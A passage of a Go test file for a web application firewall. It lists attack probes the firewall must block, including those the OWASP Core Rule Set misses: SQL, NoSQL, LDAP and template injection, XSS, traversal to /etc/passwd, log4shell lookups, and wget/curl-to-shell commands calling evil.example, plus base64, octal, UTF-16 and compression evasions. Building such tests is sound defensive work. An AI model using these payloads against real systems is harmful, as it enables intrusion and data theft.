package waf

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/base64"
	"errors"
	"fmt"
	"html"
	"io"
	"math/rand/v2"
	"mime/multipart"
	"net/http"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf16"
	"unicode/utf8"
)

// multipartBody is a multipart/form-data body of the given fields.
func multipartBody(fields ...string) (string, string) {
	var b bytes.Buffer
	mw := multipart.NewWriter(&b)
	for i := 0; i+1 < len(fields); i += 2 {
		_ = mw.WriteField(fields[i], fields[i+1])
	}
	_ = mw.Close()
	return b.String(), mw.FormDataContentType()
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// wrap76 breaks s into lines of 76 characters, as MIME does.
func wrap76(s string) string {
	var b strings.Builder
	for len(s) > 76 {
		b.WriteString(s[:76] + "\\r\\n")
		s = s[76:]
	}
	return b.String() + s
}

// deflated is s compressed as raw DEFLATE (SAML's HTTP-Redirect binding),
// gzipped as gzip, utf16le as UTF-16LE text.
func deflated(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, flate.BestCompression)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.Bytes()
}

func gzipped(s string) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.Bytes()
}

func utf16le(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return b
}

func b64bytes(b []byte) string { return base64.StdEncoding.EncodeToString(b) }

// samlRequest is a SAML AuthnRequest with the given prolog and text.
func samlRequest(prolog, text string) string {
	return `<?xml version="1.0" encoding="UTF-8"?>` + prolog + `<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" ID="_8e8dc5f69a98cc4c1ff3427e5ce34606fd672f91e6" Version="2.0" IssueInstant="2026-12-02T09:21:59Z" Destination="https://idp.example.com/sso" AssertionConsumerServiceURL="https://sp.example.com/acs" ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"><saml:Issuer>` + text + `</saml:Issuer><samlp:NameIDPolicy Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress" AllowCreate="true"/></samlp:AuthnRequest>`
}

// dotted puts sep between the groups of four characters of s.
func dotted(s, sep string) string {
	var b strings.Builder
	for i := 0; i < len(s); i += 4 {
		if i > 0 {
			b.WriteString(sep)
		}
		b.WriteString(s[i:min(i+4, len(s))])
	}
	return b.String()
}

func b64url(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }

// attackTable is what the WAF must refuse: the CRS's families (SQL
// injection, XSS, traversal, command injection, log4shell, protocol
// attacks) in every place a request carries them (query, form, multipart,
// JSON, headers, cookies), and what the CRS alone lets through at
// paranoia 1 (crsMisses: encoded payloads, NoSQL operators, template and
// LDAP injection).
func attackTable() (crsCatches, crsMisses []probe) {
	q := url.QueryEscape
	mpSQL, mpSQLType := multipartBody("comment", "1' UNION SELECT username, password FROM users --")
	mpXSS, mpXSSType := multipartBody("bio", "<script>alert(document.domain)</script>")
	mpB64, mpB64Type := multipartBody("note", b64("<script>alert(document.domain)</script>"))
	form := "application/x-www-form-urlencoded"
	js := "application/json"
	crsCatches = []probe{
		{name: "SQLi, query", method: "GET", path: "/items?id=" + q("1' OR '1'='1' --")},
		{name: "SQLi, form", method: "POST", path: "/login", contentType: form, body: "user=" + q("admin'--") + "&pass=" + q("x' OR 1=1 --")},
		{name: "SQLi, JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "x' UNION SELECT password FROM users --"}`},
		{name: "SQLi, multipart", method: "POST", path: "/upload", contentType: mpSQLType, body: mpSQL},
		{name: "SQLi, cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"session=1' OR '1'='1' --"}}},
		{name: "SQLi, Referer", method: "GET", path: "/", header: http.Header{"Referer": {"https://example.com/?id=1' UNION SELECT password FROM users --"}}},
		{name: "SQLi, time based", method: "GET", path: "/items?id=" + q("1 AND SLEEP(5)")},
		{name: "XSS, query", method: "GET", path: "/search?q=" + q("<script>alert(document.cookie)</script>")},
		{name: "XSS, JSON", method: "POST", path: "/api", contentType: js, body: `{"text": "<img src=x onerror=alert(1)>"}`},
		{name: "XSS, multipart", method: "POST", path: "/upload", contentType: mpXSSType, body: mpXSS},
		{name: "XSS, cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"pref=<svg onload=alert(1)>"}}},
		{name: "XSS, javascript: URL in a form", method: "POST", path: "/profile", contentType: form, body: "site=" + q("javascript:alert(document.cookie)")},
		{name: "traversal, query", method: "GET", path: "/download?file=" + q("../../../../etc/passwd")},
		{name: "traversal, encoded in the path", method: "GET", path: "/static/..%2f..%2f..%2fetc%2fpasswd"},
		{name: "traversal, JSON", method: "POST", path: "/api", contentType: js, body: `{"file": "../../../../etc/shadow"}`},
		{name: "RCE, query", method: "GET", path: "/ping?host=" + q("127.0.0.1; cat /etc/passwd")},
		{name: "RCE, form", method: "POST", path: "/ping", contentType: form, body: "host=" + q("x|wget http://evil.example/x.sh")},
		{name: "RCE, JSON", method: "POST", path: "/api", contentType: js, body: `{"cmd": "$(curl http://evil.example/x|sh)"}`},
		{name: "jndi, header", method: "GET", path: "/", header: http.Header{"X-Api-Version": {"${jndi:ldap://evil.example/a}"}}},
		{name: "jndi, User-Agent", method: "GET", path: "/", header: http.Header{"User-Agent": {"${jndi:rmi://evil.example/a}"}}},
		{name: "jndi, JSON", method: "POST", path: "/api", contentType: js, body: `{"user": "${jndi:ldap://evil.example/a}"}`},
		{name: "PHP code, form", method: "POST", path: "/c", contentType: form, body: "c=" + q("<?php system($_GET['c']); ?>")},
		{name: "protocol: CRLF in a parameter (response splitting)", method: "GET", path: "/r?next=" + q("x\r\nSet-Cookie: session=evil")},
		{name: "protocol: a method not allowed", method: "TRACE", path: "/"},
		{name: "protocol: a content type not allowed", method: "POST", path: "/api", contentType: "application/x-evil", body: "x"},
		// the CRS 4.25 catches these at paranoia 1 (942290 NoSQL
		// operators in names, 921200 LDAP, 932130/933135/944xxx template
		// and expression language code, 942270 triple encoding)
		{name: "base64 in a data: URL", method: "POST", path: "/api", contentType: js, body: `{"doc": "data:text/plain;base64,` + b64("<script>alert(1)</script>") + `"}`},
		{name: "percent-encoded three times in the query", method: "GET", path: "/items?id=" + q(q(q("1' UNION SELECT password FROM users --")))},
		{name: "NoSQL $ne in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "admin", "password": {"$ne": null}}`},
		{name: "NoSQL $gt in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": "admin", "password": {"$gt": ""}}`},
		{name: "NoSQL $where in JSON", method: "POST", path: "/find", contentType: js, body: `{"$where": "this.password.match(/^a/)"}`},
		{name: "NoSQL $regex in JSON", method: "POST", path: "/login", contentType: js, body: `{"user": {"$regex": "^adm"}, "password": {"$exists": true}}`},
		{name: "NoSQL $ne in a form", method: "POST", path: "/login", contentType: form, body: "user=admin&password[$ne]=x"},
		{name: "NoSQL $gt in the query", method: "GET", path: "/users?age[$gt]=0"},
		{name: "NoSQL operator in JSON inside a parameter", method: "GET", path: "/find?filter=" + q(`{"password": {"$ne": null}}`)},
		{name: "NoSQL $or in a JSON array", method: "POST", path: "/find", contentType: js, body: `{"$or": [{"a": 1}, {"b": 2}]}`},
		{name: "SSTI ${7*7} in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "${7*7}"}`},
		{name: "SSTI Jinja config", method: "GET", path: "/hello?name=" + q("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")},
		{name: "SSTI Freemarker", method: "POST", path: "/c", contentType: form, body: "c=" + q(`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`)},
		{name: "SSTI Spring EL", method: "GET", path: "/hello?name=" + q("${T(java.lang.Runtime).getRuntime().exec('id')}")},
		{name: "SSTI Velocity", method: "POST", path: "/c", contentType: form, body: "c=" + q(`#set($x = $class.inspect("java.lang.Runtime"))`)},
		{name: "LDAP *)(uid=*))(|(uid=*", method: "GET", path: "/users?name=" + q("*)(uid=*))(|(uid=*")},
		{name: "LDAP admin)(&)", method: "POST", path: "/login", contentType: form, body: "user=" + q("admin)(&)") + "&pass=x"},
		{name: "LDAP *)(|(objectclass=*)", method: "POST", path: "/login", contentType: js, body: `{"user": "*)(|(objectclass=*)", "pass": "x"}`},
		{name: "NoSQL $expr in JSON", method: "POST", path: "/find", contentType: js, body: `{"$expr": {"$function": {"body": "function() { sleep(5000); return true }", "args": [], "lang": "js"}}}`},
		{name: "NoSQL $accumulator", method: "POST", path: "/find", contentType: js, body: `{"group": {"$accumulator": {"init": "function() { return 1 }"}}}`},
		{name: "NoSQL $where in a string of JSON", method: "POST", path: "/find", contentType: js, body: `{"q": "{\"$where\": \"sleep(5000)\"}"}`},
		{name: "NoSQL stage $addFields in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$addFields": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $project in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$project": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $group in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$group": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL $set update in a form", method: "POST", path: "/profile", contentType: form, body: "user[$set][role]=admin"},
		{name: "SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "x' UNION SELECT password FROM users --"}`},
		{name: "XSS in a JSON Patch", method: "PATCH", path: "/api/users/7", contentType: "application/json-patch+json", body: `[{"op": "replace", "path": "/bio", "value": "<script>alert(document.cookie)</script>"}]`},
		{name: "NoSQL $where with an unquoted key in a parameter", method: "GET", path: "/find?filter=" + q(`{$where: 'sleep(1)'}`)},
		{name: "NoSQL $where with an unquoted key as text/plain", method: "POST", path: "/find", contentType: "text/plain", body: `{$where: 'sleep(1)'}`},
		{name: "SSTI Razor code block", method: "POST", path: "/api", contentType: js, body: `{"name": "@{ System.IO.File.ReadAllText("web.config"); }"}`},
		{name: "session fixation", method: "GET", path: "/?x=" + q(`<meta http-equiv="Set-Cookie" content="sessionid=abc">`)},
	}
	crsMisses = []probe{
		// the CRS alone refused it as the engine's form name of the whole
		// body until a text/plain body was read only whole (attack 71)
		{name: "JSON sent as text/plain, template in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"name": "{{7*7}}"}`},
		// Flask's config and Jinja2's template context, read bare (a
		// seventh fresh-eyes attack, attack 11): rule 210111
		{name: "SSTI Flask {{ (config) }}", method: "GET", path: "/hello?name=" + q("{{ (config) }}")},
		{name: "SSTI Flask {{ config or 1 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ config or 1 }}"}`},
		// Flask's request aliased, its attributes' names carried in a
		// header (an eighth fresh-eyes attack, attack 12; rendered
		// uid=0(root) on Flask 3.1.3)
		{name: "SSTI Jinja2 {% set u=request %}", method: "GET", path: "/hello?name=" + q("{% set u=request %}{% set u=u.user_agent.string.split() %}{{ g.pop[u[0]][u[1]][u[2]](u[3])[u[4]](u[5])[u[6]]() }}"),
			header: http.Header{"User-Agent": {"__globals__ __builtins__ __import__ os popen id read"}}},
		{name: "SSTI Jinja2 (request).x", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ (request).application }}"}`},
		{name: "SSTI Jinja2 for r in [request]", method: "GET", path: "/hello?name=" + q("{% for r in [request] %}{{ r.environ }}{% endfor %}")},
		{name: "SSTI Jinja2 self._TemplateReference__context", method: "GET", path: "/hello?name=" + q("{{ self._TemplateReference__context }}")},
		// a quoted cookie's octal escapes, as Python's cookie parsers
		// decode them (an eighth fresh-eyes attack, attack 12)
		{name: "admin\\047# in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`user="admin\047#"`}}},
		{name: "1\\047 or \\0471\\047=\\0471 in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`user="1\047 or \0471\047=\0471"`}}},
		{name: "a login bypass wholly in octal in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`user="\141\144\155\151\156\047\040\157\162\040\047\061\047\075\047\061"`}}},
		{name: "127.0.0.1\\073id in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`host="127.0.0.1\073id"`}}},
		// a quoted cookie without a backslash (attack 35): the rules
		// that read from a value's start saw the quote first
		{name: "admin' -- in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="admin' --"`}}},
		{name: "admin%27%20-- in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="admin%27%20--"`}}},
		{name: "admin'# in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="admin'#"`}}},
		{name: "1 or 1=1 in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="1 or 1=1"`}}},
		{name: "1%20or%201%3D1 in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="1%20or%201%3D1"`}}},
		{name: "`id` in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"q=\"`id`\""}}},
		// RFC 2047 encoded-words, as mail libraries decode a subject
		// (an eighth fresh-eyes attack, attack 12)
		{name: "SQLi in a B encoded-word in the query", method: "GET", path: "/api/mail?subject=" + q("=?UTF-8?B?eCcgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSA=?=")},
		{name: "admin'# in a Q encoded-word in a form", method: "POST", path: "/login", contentType: form, body: "user=" + q("=?UTF-8?Q?admin=27#?=") + "&pass=x"},
		{name: "SQLi in a raw message's encoded subject in a form field", method: "POST", path: "/inbound", contentType: form,
			body: "email=" + q("From: a@example.com\r\nTo: b@example.com\r\nSubject: =?UTF-8?B?eCcgVU5JT04gU0VMRUNUIHBhc3N3b3JkIEZST00gdXNlcnMtLSA=?=\r\n\r\nHello")},
		// a whole JWT: its header's kid and its claims (an eighth
		// fresh-eyes attack, attack 12)
		{name: "SQLi in a JWT's kid, in the query", method: "GET", path: "/api?access_token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnayctLSAtIn0.eyJzdWIiOiJhZG1pbiJ9.RtXa1LyCKyYhnVYcQFN3Pgc8FUV2WwfMJzG2uLiEuCw"},
		{name: "SQLi in a JWT's kid, in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"token=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnayctLSAtIn0.eyJzdWIiOiJhZG1pbiJ9.RtXa1LyCKyYhnVYcQFN3Pgc8FUV2WwfMJzG2uLiEuCw"}}},
		{name: "SQLi in a JWT's kid, in JSON", method: "POST", path: "/api/session", contentType: js, body: `{"id_token": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6IngnIFVOSU9OIFNFTEVDVCAnayctLSAtIn0.eyJzdWIiOiJhZG1pbiJ9.RtXa1LyCKyYhnVYcQFN3Pgc8FUV2WwfMJzG2uLiEuCw"}`},
		{name: "SQLi in an alg:none JWT's sub, in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"token=eyJhbGciOiJub25lIn0.eyJzdWIiOiIxJyBvciAnMSc9JzEifQ."}}},
		// encoded
		{name: "base64 SQLi in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
		{name: "base64 XSS in a query parameter", method: "GET", path: "/search?q=" + q(b64("<script>alert(document.cookie)</script>"))},
		{name: "base64url RCE in a form field", method: "POST", path: "/ping", contentType: form, body: "host=" + b64url("127.0.0.1; cat /etc/passwd")},
		{name: "base64 traversal in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"file=" + b64("../../../../etc/passwd")}}},
		{name: "base64 SQLi in a quoted cookie", method: "GET", path: "/", header: http.Header{"Cookie": {`q="` + b64("1' UNION SELECT username, password FROM users--") + `"`}}},
		{name: "base64 in a cookie, its padding and + and / percent-encoded", method: "GET", path: "/", header: http.Header{"Cookie": {"q=" + strings.NewReplacer("+", "%2B", "/", "%2F", "=", "%3D").Replace(b64("1' OR 1=1 -- ???>>> ~~~ UNION SELECT password FROM users"))}}},
		{name: "base64 in a cookie, only its padding percent-encoded", method: "GET", path: "/", header: http.Header{"Cookie": {"pref=" + strings.ReplaceAll(b64("<script>alert(document.domain)</script>!"), "=", "%3D")}}},
		{name: "base64 with line breaks (MIME) in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + wrap76(b64("1' UNION SELECT username, password FROM users-- and a longer tail to wrap the line")) + `"}`},
		{name: "base64 without padding and with a space", method: "GET", path: "/search?q=" + q(strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[:20]+" "+strings.TrimRight(b64("<script>alert(document.cookie)</script>x"), "=")[20:])},
		{name: "base64 with extra padding", method: "POST", path: "/ping", contentType: form, body: "host=" + q(b64("127.0.0.1; cat /etc/passwd")+"==")},
		{name: "base64 of a payload and one invalid UTF-8 byte", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}\xff") + `"}`},
		{name: "base64 with a stray character after the padding", method: "POST", path: "/api", contentType: js, body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `!"}`},
		{name: "base64 with dots between groups (Node and Python skip them)", method: "GET", path: "/search?q=" + q(dotted(b64("<script>alert(document.cookie)</script>"), "."))},
		{name: "base64 with dashes between groups (Python skips them)", method: "POST", path: "/ping", contentType: form, body: "host=" + q(dotted(b64("127.0.0.1; cat /etc/passwd"), "-"))},
		{name: "base64 of both alphabets in one value (Node reads - as + and _ as /)", method: "POST", path: "/api", contentType: js, body: `{"v": "` + strings.Replace(b64("1' OR 1=1 -- ???>>> ~~~ UNION SELECT password FROM users"), "/", "_", 1) + `"}`},
		{name: "SQLi in a base64 e-mail message (read by every rule but XSS)", method: "POST", path: "/gmail/v1/users/me/messages/send", contentType: js,
			body: `{"raw": "` + b64url(htmlMail("1' UNION SELECT username, password FROM users--")) + `"}`},
		{name: "jndi in a base64 shell script", method: "POST", path: "/api/jobs", contentType: js,
			body: `{"content": "` + b64("#!/bin/sh\nset -eu\necho '${jndi:ldap://evil.example/a}'\n") + `"}`},
		{name: "XXE in a SAML request, deflated then base64 (HTTP-Redirect binding)", method: "GET", path: "/sso?SAMLRequest=" + q(b64bytes(deflated(samlRequest(`<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>`, "&x;"))))},
		{name: "SQLi gzipped then base64 in a JSON field", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64bytes(gzipped("1' UNION SELECT username, password FROM users--")) + `"}`},
		{name: "SQLi as UTF-16LE then base64 in a query parameter", method: "GET", path: "/search?q=" + q(b64bytes(utf16le("1' UNION SELECT username, password FROM users--")))},
		{name: "XSS as UTF-16BE with a byte order mark, base64 in a form", method: "POST", path: "/c", contentType: form, body: "c=" + q(b64bytes(append([]byte{0xfe, 0xff}, func() []byte {
			var b []byte
			for _, u := range utf16.Encode([]rune("<script>alert(document.cookie)</script>")) {
				b = append(b, byte(u>>8), byte(u))
			}
			return b
		}()...)))},
		{name: "short base64 ('or 1=1# unpadded, 11 characters)", method: "GET", path: "/login?user=J29yIDE9MSM"},
		{name: "short base64 ({{7*7}}, 10 characters)", method: "POST", path: "/api", contentType: js, body: `{"name": "e3s3Kjd9fQ"}`},
		{name: "short base64 (${7*7}, 8 characters)", method: "GET", path: "/hello?name=JHs3Kjd9"},
		{name: "short base64 (';id;', 8 characters)", method: "POST", path: "/ping", contentType: form, body: "host=JztpZDsn"},
		{name: "base64 XSS in a multipart field", method: "POST", path: "/upload", contentType: mpB64Type, body: mpB64},
		{name: "base64 in base64 (two levels)", method: "POST", path: "/api", contentType: js, body: `{"data": "` + b64(b64("1' OR '1'='1' --")) + `"}`},
		{name: "NoSQL operator in base64", method: "POST", path: "/find", contentType: js, body: `{"filter": "` + b64(`{"$where": "sleep(5000)"}`) + `"}`},
		{name: "jndi lookup in base64", method: "POST", path: "/api", contentType: js, body: `{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}`},
		{name: "JSON sent as text/plain, base64 SQLi in a leaf", method: "POST", path: "/api", contentType: "text/plain", body: `{"filter": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
		{name: "JSON sent as a form, base64 XSS in a leaf", method: "POST", path: "/api", contentType: form, body: `{"q": "` + b64("<script>alert(document.cookie)</script>") + `"}`},
		{name: "JSON sent as XML, base64 jndi in a leaf", method: "POST", path: "/api", contentType: "application/xml", body: `[{"v": "` + b64("${jndi:ldap://evil.example/a}") + `"}]`},
		{name: "base64 SQLi in an XML element's text", method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><order><note>` + b64("1' UNION SELECT username, password FROM users--") + `</note></order>`},
		{name: "base64 XSS in an XML attribute", method: "POST", path: "/api", contentType: "text/xml", body: `<order note="` + b64("<script>alert(document.cookie)</script>") + `"><id>7</id></order>`},
		{name: "base64 SQLi in a JSON Merge Patch", method: "PATCH", path: "/api/users/7", contentType: "application/merge-patch+json", body: `{"name": "` + b64("1' UNION SELECT username, password FROM users--") + `"}`},
		// NoSQL
		{name: "NoSQL stage $lookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$lookup": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $unionWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unionWith": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $graphLookup in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$graphLookup": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $out in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$out": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $merge in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$merge": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $match in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$match": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $facet in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$facet": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $replaceRoot in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$replaceRoot": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $replaceWith in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$replaceWith": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $sample in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$sample": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL stage $unwind in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$unwind": {"from": "users", "as": "u"}}]`},
		{name: "NoSQL $$ROOT in JSON", method: "POST", path: "/find", contentType: js, body: `{"newRoot": "$$ROOT"}`},
		{name: "NoSQL $lookup as a bracketed query name", method: "GET", path: "/find?a[$lookup]=x"},
		{name: "NoSQL $unionWith in JSON inside a parameter", method: "GET", path: "/find?pipeline=" + q(`[{"$unionWith": "secrets"}]`)},
		{name: "NoSQL stage $currentOp in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$currentOp": {"allUsers": true, "idleSessions": true}}]`},
		{name: "NoSQL stage $queryStats in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$queryStats": {}}]`},
		{name: "NoSQL stage $listSearchIndexes in JSON", method: "POST", path: "/find", contentType: js, body: `[{"$listSearchIndexes": {}}]`},
		{name: "NoSQL stage with an unquoted key in a parameter", method: "GET", path: "/find?pipeline=" + q(`[{$unionWith:'secrets'}]`)},
		{name: "NoSQL stage with an unquoted key as text/plain (JSON5)", method: "POST", path: "/find", contentType: "text/plain", body: `[{$unionWith: 'secrets'}, {$lookup: {from: 'users', as: 'u'}}]`},
		{name: "NoSQL stage with an unquoted key as a form body", method: "POST", path: "/find", contentType: form, body: `[{$unionWith:'secrets'}]`},
		{name: "NoSQL $where injection: ' || 'a'=='a", method: "GET", path: "/users?user=" + q("' || 'a'=='a")},
		{name: "NoSQL $where injection: '||1==1//", method: "POST", path: "/login", contentType: js, body: `{"user": "'||1==1//"}`},
		{name: "NoSQL $where injection: this.password.match", method: "GET", path: "/users?user=" + q("' && this.password.match(/.*/)//")},
		{name: "NoSQL $where injection: this.role compared", method: "POST", path: "/login", contentType: js, body: `{"user": "' || this.role == 'admin' || '"}`},
		{name: "NoSQL $where injection: double quotes", method: "POST", path: "/login", contentType: form, body: "user=" + q(`" || "a"=="a`)},
		{name: "NoSQL $where injection: ; return this.isAdmin", method: "GET", path: "/users?user=" + q("1; return this.isAdmin")},
		{name: "NoSQL $where injection: constructor.constructor", method: "POST", path: "/login", contentType: js, body: `{"user": "'||this.a.constructor.constructor('return process')().exit()||'"}`},
		{name: "NoSQL $regularExpression (Extended JSON) and $options as keys", method: "POST", path: "/find", contentType: js, body: `{"user": {"$regularExpression": {"pattern": "^adm", "options": "i"}}}`},
		{name: "NoSQL legacy query modifiers $query and $hint", method: "POST", path: "/find", contentType: js, body: `{"$query": {"user": "admin"}, "$hint": {"_id": 1}}`},
		{name: "NoSQL $geoWithin as a bracketed name", method: "GET", path: "/find?loc[$geoWithin][$centerSphere]=x"},
		// LDAP the CRS 4.25 misses: payloads that 921200's anchored
		// pattern does not start on
		{name: "LDAP: a whole or-filter", method: "GET", path: "/users?name=" + q("(|(uid=*)(userPassword=*))")},
		{name: "LDAP: after a colon", method: "POST", path: "/login", contentType: form, body: "user=" + q("x:admin)(|(objectclass=*)") + "&pass=x"},
		// attack 16: a nested open before the or-filter
		{name: "LDAP: admin*)((|userPassword=*)", method: "GET", path: "/users?user=" + q("admin*)((|userPassword=*)")},
		// template injection
		{name: "SSTI {{7*7}} in the query", method: "GET", path: "/hello?name=" + q("{{7*7}}")},
		{name: "SSTI <%= 7*7 %> in a form", method: "POST", path: "/c", contentType: form, body: "c=" + q("<%= 7*7 %>")},
		{name: "SSTI #{7*7} in a cookie", method: "GET", path: "/", header: http.Header{"Cookie": {"name=#{7*7}"}}},
		{name: "SSTI Jinja __mro__", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ ''.__class__.__mro__[1].__subclasses__() }}"}`},
		{name: "SSTI Twig _self", method: "GET", path: "/hello?name=" + q(`{{_self.env.registerUndefinedFilterCallback("exec")}}`)},
		{name: "SSTI {{7*'7'}} in a User-Agent", method: "GET", path: "/", header: http.Header{"User-Agent": {"Mozilla/5.0 {{7*'7'}}"}}},
		{name: "SSTI Jinja \\x5f escapes", method: "GET", path: "/hello?name=" + q(`{{request['application']['\x5f\x5fglobals\x5f\x5f']['\x5f\x5fbuiltins\x5f\x5f']['\x5f\x5fimport\x5f\x5f']('os')['popen']('id')['read']()}}`)},
		{name: "SSTI {%print(7*7)%}", method: "GET", path: "/hello?name=" + q("{%print(7*7)%}")},
		{name: "SSTI {% print 7*7 %}", method: "POST", path: "/c", contentType: form, body: "c=" + q("{% print 7*7 %}")},
		{name: "SSTI {{7+7}} in the query", method: "GET", path: "/hello?name=" + q("{{7+7}}")},
		{name: "SSTI {{ 7.0 * 7 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ 7.0 * 7 }}"}`},
		{name: "SSTI {{ 7//1 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ 7//1 }}"}`},
		{name: "SSTI {{ range(7)|list }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ range(7)|list }}"}`},
		{name: "SSTI Razor @(7*7)", method: "GET", path: "/hello?name=" + q("@(7*7)")},
		{name: "SSTI {$smarty.version}", method: "POST", path: "/c", contentType: form, body: "c=" + q("{$smarty.version}")},
		{name: "SSTI doT {{=7*7}}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{=7*7}}"}`},
		{name: "SSTI Jinja2 adjacent literals ('_''_init_''_', 'po''pen')", method: "GET", path: "/hello?name=" + q(`{{namespace['_''_init_''_']['_''_globals_''_']['o''s']['po''pen']('i''d')['re''ad']()}}`)},
		{name: "SSTI Jinja2 literals joined by ~ and + in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ ()['_'~'_cla'+'ss_'~'_']['_' '_base_' '_'] }}"}`},
		{name: "SSTI Jinja2 octal escapes", method: "GET", path: "/hello?name=" + q(`{{''['\137\137class\137\137']}}`)},
		{name: "SSTI Jinja2 \\N{LOW LINE} and \\U escapes in JSON", method: "POST", path: "/api", contentType: js, body: `{"name": "{{''['\\N{LOW LINE}\\N{LOW LINE}cl\\U00000061ss\\N{LOW LINE}\\N{LOW LINE}']}}"}`},
		{name: "SSTI Twig |filter('system')", method: "GET", path: "/hello?name=" + q(`{{['id']|filter('system')}}`)},
		{name: "SSTI Twig |map('system')", method: "POST", path: "/api", contentType: js, body: `{"name": "{{['id']|map('system')|join}}"}`},
		{name: "SSTI Twig |sort('passthru')", method: "GET", path: "/hello?name=" + q(`{{['id','']|sort('passthru')}}`)},
		{name: "SSTI Twig |reduce('system')", method: "GET", path: "/hello?name=" + q(`{{[0,0]|reduce('sys'~'tem','id')}}`)},
		{name: "SSTI {% set x = 7*7 %}", method: "GET", path: "/hello?name=" + q("{% set x = 7*7 %}")},
		{name: "SSTI {{[7]*7}}", method: "GET", path: "/hello?name=" + q("{{[7]*7}}")},
		{name: "SSTI {{0x7*0x7}}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{0x7*0x7}}"}`},
